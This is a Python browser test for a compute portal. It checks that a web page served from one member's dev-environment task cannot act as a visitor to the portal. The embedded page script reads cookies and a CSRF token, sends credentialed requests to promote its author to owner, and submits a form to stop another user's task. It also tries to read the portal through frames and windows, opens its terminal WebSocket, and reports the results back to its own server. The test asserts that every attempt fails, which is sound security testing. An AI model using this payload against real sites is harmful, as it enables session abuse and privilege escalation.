"""Connect in Chromium: a page a task serves, opened by another user through the portal's Connect button, tries
to act as that visitor on the portal and fails.

The task's port is a real little HTTP server in a dev environment of the member's (the page's author); the project
owner opens it. Its script reads the visitor's cookies, calls the portal's API with the visitor's credentials
(a read, and the promotion of its author to owner), posts a form to stop a task of the visitor's, opens the portal
in a frame and in a window and reads them, and opens the portal's live and terminal sockets. Each attempt must
fail and change nothing; the page's own requests to its own origin still work.
"""

from __future__ import annotations

import json
from urllib.parse import urlsplit

import pytest

from apps.tasks.services import stop_task, submit_task
from apps.vdc.models import Membership
from tests.control.drive import run_until_running, wait_status
from tests.portal.test_browser import log_in, shot

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

PORT = 8000
# The author's page. PORTAL, MEMBERSHIP and VICTIM are filled in by the test; every attempt's outcome goes into
# window.hcsResults, and to the page's own server (POST /report) as a page that exfiltrates would.
ATTACK_PAGE = r"""<!doctype html>
<title>dev env</title>
<iframe name="sink" hidden></iframe>
<script>
const portal = "PORTAL", out = {};
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
async function attempt(name, fn) {
  try { out[name] = await fn(); } catch (error) { out[name] = "blocked: " + error; }
}
function socket(url) {
  return new Promise((done) => {
    let ws;
    try { ws = new WebSocket(url); } catch (error) { return done("blocked: " + error); }
    ws.onopen = () => { ws.close(); done("open"); };
    ws.onerror = () => done("blocked: error");
    ws.onclose = (event) => done("blocked: closed " + event.code);
    setTimeout(() => done("blocked: no answer"), 4000);
  });
}
(async () => {
  out.origin = location.origin;
  out.cookie = document.cookie;
  const token = (document.cookie.match(/csrftoken=([^;]+)/) || [])[1] || "";
  await attempt("read_api", async () => {
    const response = await fetch(portal + "/api/v1/memberships/", {credentials: "include"});
    return response.status + " " + (await response.text()).slice(0, 200);
  });
  await attempt("promote_author", async () => {
    const response = await fetch(portal + "/api/v1/memberships/MEMBERSHIP/", {
      method: "PATCH", credentials: "include",
      headers: {"Content-Type": "application/json", "X-CSRFToken": token}, body: JSON.stringify({role: "owner"}),
    });
    return "status " + response.status;
  });
  await attempt("blind_stop", async () => {
    const body = new URLSearchParams({csrfmiddlewaretoken: token});
    const response = await fetch(portal + "/compute-tasks/VICTIM/stop/",
                                 {method: "POST", mode: "no-cors", credentials: "include", body});
    return "sent (" + response.type + ")";
  });
  await attempt("form_stop", async () => {
    const form = document.createElement("form");
    form.method = "post"; form.action = portal + "/compute-tasks/VICTIM/stop/"; form.target = "sink";
    const field = document.createElement("input");
    field.name = "csrfmiddlewaretoken"; field.value = token; form.appendChild(field);
    document.body.appendChild(form);
    form.submit();
    await wait(1500);
    return "submitted";
  });
  await attempt("frame", async () => {
    const frame = document.createElement("iframe");
    frame.src = portal + "/compute-tasks/";
    document.body.appendChild(frame);
    await wait(1500);
    return "read: " + frame.contentDocument.body.innerText.slice(0, 100);
  });
  await attempt("window", async () => {
    const opened = window.open(portal + "/compute-tasks/");
    await wait(2000);
    try { return "read: " + opened.document.body.innerText.slice(0, 100); } finally { opened && opened.close(); }
  });
  await attempt("live_socket", () => socket(portal.replace("http", "ws") + "/ws/live/"));
  await attempt("terminal_socket", () => socket(portal.replace("http", "ws") + "/ws/tasks/VICTIM/terminal/"));
  await attempt("own_report", async () => {
    const response = await fetch("/report", {method: "POST", body: JSON.stringify(out)});
    return "status " + response.status;
  });
  window.hcsResults = out;
  document.body.dataset.done = "1";
})();
</script>
"""
SERVER = r"""
cat > index.html <<'HTML'
PAGE
HTML
cat > serve.py <<'PY'
import http.server
class Handler(http.server.SimpleHTTPRequestHandler):
    def do_POST(self):
        with open("report.json", "wb") as report:
            report.write(self.rfile.read(int(self.headers["Content-Length"])))
        self.send_response(201)
        self.end_headers()
http.server.ThreadingHTTPServer(("0.0.0.0", PORT_NUMBER), Handler).serve_forever()
PY
exec python3 serve.py
""".replace("PORT_NUMBER", str(PORT))


def start_tasks(world, portal: str):
    """The visitor's task (which the page tries to stop and open a shell in) and the author's page."""
    victim = run_until_running(
        submit_task(
            world.owner,
            project=world.project,
            queue="high",
            name="victim",
            kind="dev_env",
            command="sleep 600",
            gpu_spec="",
        )
    )
    membership = Membership.objects.get(user=world.member, project=world.project)
    page = ATTACK_PAGE.replace("PORTAL", portal).replace("MEMBERSHIP", str(membership.pk))
    page = page.replace("VICTIM", str(victim.pk))
    author = submit_task(
        world.member,
        project=world.project,
        queue="high",
        name="devenv",
        kind="dev_env",
        command=SERVER.replace("PAGE", page),
        gpu_spec="",
        port=PORT,
    )
    return victim, run_until_running(author)


def state(world, victim) -> tuple[str, str]:
    victim.refresh_from_db()
    return Membership.objects.get(user=world.member, project=world.project).role, victim.status


def test_a_page_a_task_serves_cannot_act_as_its_visitor_on_the_portal(db_thread, browser, live_server_url, live_world):
    base = live_server_url
    victim, author = db_thread.run(start_tasks, live_world, base)
    try:
        context = browser.new_context(viewport={"width": 1366, "height": 900})
        portal_page = context.new_page()
        log_in(portal_page, base, "olivia")
        portal_page.goto(f"{base}/task-monitoring/{author.pk}/")
        for _ in range(50):  # Connect is offered once the service answers on its port
            if portal_page.locator("[data-connect]").count():
                break
            portal_page.wait_for_timeout(200)
            portal_page.reload()
        with context.expect_page() as opened:
            portal_page.locator("[data-connect]").click()
        app = opened.value
        app.wait_for_load_state()
        for _ in range(50):  # the service needs a moment after its job starts to listen
            if app.title() == "dev env":
                break
            app.wait_for_timeout(200)
            app.reload()
        app.wait_for_selector("body[data-done]", state="attached", timeout=30000)
        results = app.evaluate("window.hcsResults")
        shot(app, "connect-01-attack-page")
        print(json.dumps(results, indent=1))  # what each attempt met, for the report

        succeeded = {
            name: outcome
            for name, outcome in results.items()
            if name not in ("origin", "cookie", "own_report", "blind_stop", "form_stop")
            and not str(outcome).startswith("blocked")
        }
        role, victim_status = db_thread.run(state, live_world, victim)
        assert not succeeded, succeeded
        assert "csrftoken" not in results["cookie"] and "sessionid" not in results["cookie"], results["cookie"]
        assert role == "member" and victim_status == "running", (role, victim_status)

        # The page ran on the app's own origin, where its own requests still work.
        assert results["own_report"] == "status 201", results
        assert urlsplit(results["origin"]).hostname == f"{author.pk}-{PORT}.apps.localhost"
    finally:
        for task in (victim, author):
            db_thread.run(finish, task, live_world.owner)


def finish(task, user) -> None:
    task.refresh_from_db()
    if not task.is_final:
        stop_task(task, user)
        wait_status(task, {"stopped", "completed", "failed"})
